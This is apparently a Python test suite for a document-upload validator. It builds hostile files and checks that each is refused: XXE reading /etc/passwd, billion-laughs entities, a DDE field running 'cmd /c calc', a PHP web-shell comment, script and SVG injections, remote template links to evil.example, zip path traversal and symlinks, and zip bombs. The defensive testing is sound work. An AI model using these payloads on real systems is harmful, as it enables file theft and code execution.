"""Files that are two things at once, carry programs, unfold without end or are cut short."""

from __future__ import annotations

import struct
import zipfile
from io import BytesIO

import pikepdf
import pytest

from evidence import making
from evidence.examining import examined
from evidence.making import changed, docx, zipped
from guiju.base.evidence.formats import archive, pictures
from guiju.core.errors import Invalid

ZIP = zipped({"a.class": b"\xca\xfe\xba\xbe"})
DOCTYPE = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
LAUGHS = '<!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;"><!ENTITY c "&b;&b;">]>'
DDE = (
    "<w:p><w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>&#69;AUTO cmd "
    '"/c calc"</w:instrText></w:r></w:p>'
)


def external(kind, target):
    rels = f'<Relationship Id="r9" Type="{making.REL}/{kind}" Target="{target}" TargetMode='
    return docx(rels=f'{rels}"External"/>')


def typed(content_type):
    return docx(types=f'<Override PartName="/word/x.bin" ContentType="{content_type}"/>')


def action(**entries):
    def change(pdf):
        pdf.Root.OpenAction = pikepdf.Dictionary(**entries)

    return change


def encrypted_zip():
    content = bytearray(docx())
    for sign, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        content[content.find(sign) + at] |= 1
    return bytes(content)


def linked_zip():
    out = BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        for name, body in making.docx_members().items():
            made.writestr(zipfile.ZipInfo(name), body)
        link = zipfile.ZipInfo("word/link")
        link.create_system, link.external_attr = 3, 0o120777 << 16
        made.writestr(link, "/etc/passwd")
    return out.getvalue()


def overlapping_zip():
    """Two directory entries that share the data of one, as in Fifield's bomb."""
    content = zipped(making.docx_members() | {"word/a.bin": b"a" * 50, "word/b.bin": b"b" * 50})
    a, b = content.find(b"word/a.bin") - 30, content.find(b"word/b.bin") - 30
    at = content.rfind(b"word/b.bin") - 46 + 42
    assert content[at : at + 4] == struct.pack("<I", b)
    return content[:at] + struct.pack("<I", a) + content[at + 4 :]


def disagreeing_zip():
    """A member that calls itself one thing and is called another in the directory."""
    content = zipped(making.docx_members() | {"word/a.bin": b"a"})
    at = content.find(b"word/a.bin")
    return content[:at] + b"word/a.exe" + content[at + 10 :]


def gap_in_zip():
    """Something between the members and the directory, with all offsets put right."""
    content = docx()
    at = content.find(b"PK\x01\x02")
    end = content.rfind(b"PK\x05\x06")
    offset = struct.pack("<I", at + 100)
    return content[:at] + bytes(100) + content[at:end] + content[end : end + 16] + offset + b"\0\0"


def nested(name, inner):
    return changed(docx(), **{name: inner})


def wide(text):
    return f'<?xml version="1.0" encoding="UTF-16"?>{text}'.encode("utf-16")


HIDDEN = {
    "PNG 后接 ZIP": lambda: making.picture() + ZIP,
    "JPEG 后接 JAR": lambda: making.photo() + ZIP,
    "JPEG 后接录像": lambda: making.photo() + making.mp4(),
    "PNG 后接一个字节": lambda: making.picture() + b"x",
    "WebP 后接数据": lambda: making.picture("WEBP") + b"abc",
    "TIFF 后接 ZIP": lambda: making.picture("TIFF") + ZIP,
    "PDF 后接 ZIP": lambda: making.pdf() + ZIP,
    "PDF 后接网页": lambda: making.pdf() + b"<html>",
    "ZIP 在前的 PDF": lambda: making.pdf(content=ZIP, compress_streams=False),
    "图中有 PDF": lambda: making.photo("JPEG", comment=b"%PDF-1.7"),
    "文本里有 PDF": lambda: b"note\n%PDF-1.7\n",
    "OLE 后接 ZIP": lambda: making.doc() + ZIP,
    "录音后接 ZIP": lambda: making.mp3() + ZIP,
    "录音当中有数据": lambda: making.mp3() + b"payload" * 30,
    "WAV 后接数据": lambda: making.wav() + b"payload",
    "录像里有怪盒子": lambda: making.mp4() + making.box(b"evil", b"x"),
    "前面有数据的 ZIP": lambda: b"PK\x03\x04" + bytes(40) + docx(),
    "ZIP 有尾注": lambda: docx()[:-2] + b"\x05\x00hello",
    "ZIP 后接数据": lambda: docx() + b"x",
    "成员之间有数据": gap_in_zip,
    "成员重叠": overlapping_zip,
    "目录和内容对不上": disagreeing_zip,
    "链接": linked_zip,
    "../": lambda: nested("../../evil.xml", b"<a/>"),
    "绝对路径": lambda: nested("/etc/cron.xml", b"<a/>"),
    "反斜杠": lambda: nested("word\\evil.xml", b"<a/>"),
    "盘符": lambda: nested("C:/evil.xml", b"<a/>"),
    "大小写重名": lambda: nested("WORD/document.xml", b"<a/>"),
    "内嵌程序": lambda: nested("word/media/a.bin", b"MZ\x90\0"),
    "内嵌脚本": lambda: nested("word/a.vbs", b"x"),
    "内嵌压缩包": lambda: nested("word/media/a.zip", ZIP),
    "内嵌 RAR": lambda: nested("word/embeddings/a.bin", b"Rar!\x1a\x07\x00"),
    "两层内嵌": lambda: nested("word/embeddings/a.docx", nested("word/embeddings/b.docx", docx())),
    "两种文档": lambda: changed(docx(), **{"OFD.xml": b"<OFD/>"}),
}
ACTIVE = {
    "VBA 名": lambda: nested("word/vbaProject.bin", b"x"),
    "VBA 型": lambda: typed("application/vnd.ms-office.vbaProject"),
    "宏文档": lambda: typed("application/vnd.ms-word.document.macroEnabled.main+xml"),
    "宏表": lambda: typed("application/vnd.ms-excel.macrosheet+xml"),
    "ActiveX": lambda: nested("word/activeX/activeX1.bin", b"x"),
    "DDE 域": lambda: docx(body=DDE),
    "DDE 简写": lambda: docx(body='<w:fldSimple w:instr="DDE excel a b"/>'),
    "DDE 链接": lambda: nested("xl/externalLinks/externalLink1.xml", b"<e><ddeLink/></e>"),
    "OLE 打包": lambda: nested(
        "word/embeddings/o.bin", making.compound({"\x01Ole10Native": b"MZ"})
    ),
    "内嵌宏": lambda: nested("word/embeddings/o.bin", making.compound({"_VBA_PROJECT": b""})),
    "DOC 宏": lambda: making.doc(Macros=b"", VBA=b""),
    "XLS 宏": lambda: making.compound({"Workbook": b"\x09\x08\x00\x00", "_VBA_PROJECT_CUR": b""}),
    "XLS 宏表": lambda: making.xls((0x85, bytes(5) + b"\x01\x00")),
    "XLS VBA": lambda: making.xls((0x85, bytes(5) + b"\x06\x00")),
    "ODT Basic": lambda: making.odt(more={"Basic/Standard/script-lb.xml": "<a/>"}),
    "ODT 脚本": lambda: making.odt(more={"Scripts/python/x.bin": "import os"}),
    "ODT 调用": lambda: making.odt(
        '<text:x xmlns:q="http://www.w3.org/1999/xlink" q:href="vnd.sun.star.&#115;cript:x"/>'
    ),
    "ODS DDE": lambda: making.odt("<office:dde-source/>"),
}
LOCKED = {
    "PDF": lambda: making.pdf(encryption=pikepdf.Encryption(owner="a", user="b")),
    "ZIP": encrypted_zip,
    "加密的 DOCX": lambda: making.compound({"EncryptedPackage": b"", "EncryptionInfo": b""}),
    "DOC": lambda: making.doc(flags=0x0100),
    "XLS": lambda: making.xls((0x2F, bytes(6))),
    "ODT": lambda: making.odt(more={"META-INF/manifest.xml": "<m><encryption-data/></m>"}),
    "OFD": lambda: making.ofd(more={"Doc_0/Encryptions.xml": "<a/>"}),
}
BOMBS = {
    "50000×50000": making.huge_png,
    "倍数": lambda: nested("word/media/a.bin", bytes(20 * 1024**2)),
    "个数": lambda: zipped({f"{n}.xml": b"" for n in range(archive.MOST_MEMBERS + 1)}),
    "文本": lambda: b"a" * (33 * 1024**2),
}
SCRIPTED = {
    "文本": lambda: b"hello <script>alert(1)</script>",
    "文本里的 SVG": "说明 <svg onload=alert(1)>".encode,
    "GB18030": lambda: "说明<iframe src=x>".encode("gb18030"),
    "UTF-16": lambda: "说明<script >".encode("utf-16"),
    "PNG 文字": lambda: making.photo("JPEG", comment=b"<script>alert(1)</script>"),
    "PHP": lambda: making.photo("JPEG", comment=b"<?php system($_GET[0]);"),
    "样式表": lambda: b'<?xml version="1.0"?><?xml-stylesheet href="x"?><log/>',
    "XML 里的网页": lambda: (
        b'<?xml version="1.0"?><log><a:b xmlns:a="http://www.w3.org/1999/xhtml"/></log>'
    ),
    "文中 SVG": lambda: nested("word/media/a.svg", b"<svg onload='x()'/>"),
}
REMOTE = {
    "模板": lambda: external("attachedTemplate", "https://evil.example/t.dotm"),
    "对象": lambda: external("oleObject", "http://evil.example/x"),
    "图片": lambda: external("image", "http://evil.example/track.png"),
    "网络共享": lambda: external("attachedTemplate", "\\\\10.0.0.1\\share\\t.dotx"),
    "file 共享": lambda: external("attachedTemplate", "file:///\\\\10.0.0.1\\t.dotx"),
    "file 主机": lambda: external("frame", "file://host/t.htm"),
    "转义": lambda: external("frame", "&#104;ttp://evil.example/"),
    "mhtml": lambda: external("oleObject", "mhtml:http://evil.example/x!x-usc:http://e/x"),
    "ODT": lambda: making.odt(
        '<x:image xmlns:x="d" xmlns:q="http://www.w3.org/1999/xlink" q:href="https://e.example/"/>'
    ),
}
ENTITIES = {
    "DOCX": lambda: nested("word/styles.xml", f"{DOCTYPE}<a>&x;</a>"),
    "rels": lambda: nested("word/_rels/x.rels", f"{LAUGHS}<a>&c;</a>"),
    "vml": lambda: nested("xl/drawings/vmlDrawing1.vml", f"{DOCTYPE}<a>"),
    "ODT": lambda: making.odt(more={"styles.xml": f"{LAUGHS}<a>&c;</a>"}),
    "OFD": lambda: making.ofd(more={"Doc_0/Res.xml": f"{DOCTYPE}<a/>"}),
    "BPMN": f'<?xml version="1.0"?>{LAUGHS}<log>&c;</log>'.encode,
    "UTF-16": lambda: wide(f"{LAUGHS}<log>&c;</log>"),
}
BROKEN = {
    "UTF-16 部件": lambda: nested("word/styles.xml", wide(f"{DOCTYPE}<a/>")),
    "XML 不合写法": lambda: nested("word/styles.xml", b"<a>"),
    "没有主文档": lambda: changed(docx(), **{"_rels/.rels": b"<Relationships/>"}),
    "两个主文档": lambda: changed(
        docx(),
        **{
            "_rels/.rels": f'<R><Relationship Type="{making.REL}/officeDocument" Target="word/'
            f'document.xml"/><Relationship Type="{making.REL}/officeDocument" Target="x"/></R>'
        },
    ),
    "PNG 校验和": lambda: making.picture()[:-20] + b"x" + making.picture()[-19:],
    "PDF 没有结尾": lambda: making.pdf().replace(b"%%EOF", b""),
    "XES 断了": lambda: b'<?xml version="1.0"?><log><trace>',
}


def each(cases, code):
    return [pytest.param(make, code, id=f"{code}-{name}") for name, make in cases.items()]


@pytest.mark.parametrize(
    ("make", "code"),
    [
        *each(HIDDEN, "07"),
        *each(ACTIVE, "08"),
        *each(LOCKED, "09"),
        *each(BOMBS, "10"),
        *each(SCRIPTED, "18"),
        *each(REMOTE, "19"),
        *each(ENTITIES, "21"),
        *each(BROKEN, "06"),
    ],
)
def test_it_is_refused_with_a_way_out(tmp_path, make, code):
    with pytest.raises(Invalid) as said:
        examined(tmp_path, make())
    assert said.value.code == f"EVIDENCE-{code}"
    assert "请" in str(said.value)


WHOLE = [
    making.pdf, making.ofd, making.telling_docx, making.xlsx, making.odt, making.doc, making.xls,
    making.picture, making.photo, making.wav, making.mp4,
    lambda: making.photo("WEBP"), lambda: making.photo("TIFF", size=(200, 100)),
]  # fmt: skip


@pytest.mark.parametrize("make", WHOLE)
@pytest.mark.parametrize("part", [0.3, 0.9])
def test_a_file_that_is_cut_short_is_refused(tmp_path, make, part):
    whole = make()
    assert examined(tmp_path, whole).kind
    with pytest.raises(Invalid, match=r"EVIDENCE-0[467]"):
        examined(tmp_path, whole[: int(len(whole) * part)])


@pytest.mark.parametrize(
    "make",
    [
        lambda: external("hyperlink", "https://www.gov.cn/"),
        lambda: external("attachedTemplate", "file:///C:\\Templates\\Normal.dotm"),
        lambda: external("externalLinkPath", "https://oa.example/a.xlsx"),
        lambda: docx(body="<w:r><w:instrText>PAGE</w:instrText></w:r>"),
        lambda: nested("word/embeddings/a.xlsx", making.xlsx()),
        lambda: nested("word/embeddings/o.bin", making.compound({"Equation Native": b"x"})),
        lambda: nested("word/media/a.emz", b"\x1f\x8b\x08"),
        lambda: nested("word/media/a.svg", b"<svg><path d='M0 0'/></svg>"),
        lambda: making.pdf(encryption=pikepdf.Encryption(owner="a", user="")),
        lambda: making.pdf() + b"\r\n\0\0",
        lambda: making.photo() + making.picture("JPEG"),
        lambda: making.photo() + bytes(64),
        lambda: making.mp3() + b"TAG" + bytes(125),
        "a < b 且 b > c".encode,
        "<说明> 尖括号开头的文字".encode,
        lambda: making.odt('<text:a xmlns:q="x" q:href="https://www.gov.cn/">网站</text:a>'),
    ],
)
def test_what_offices_really_have_is_taken(tmp_path, make):
    assert examined(tmp_path, make()).kind


def test_a_picture_may_be_exactly_as_large_as_the_limit(tmp_path, monkeypatch):
    monkeypatch.setattr(pictures, "MOST_PIXELS", 800)
    assert examined(tmp_path, making.picture(size=(40, 20)))
    with pytest.raises(Invalid, match="EVIDENCE-10"):
        examined(tmp_path, making.picture(size=(40, 21)))


def test_all_pages_of_a_scan_count(tmp_path, monkeypatch):
    out = BytesIO()
    page = making.Image.new("1", (40, 20))
    page.save(out, "TIFF", save_all=True, append_images=[page, page])
    assert examined(tmp_path, out.getvalue())
    monkeypatch.setattr(pictures, "MOST_PAGES_PIXELS", 2 * 800)
    with pytest.raises(Invalid, match="第 3 页"):
        examined(tmp_path, out.getvalue())
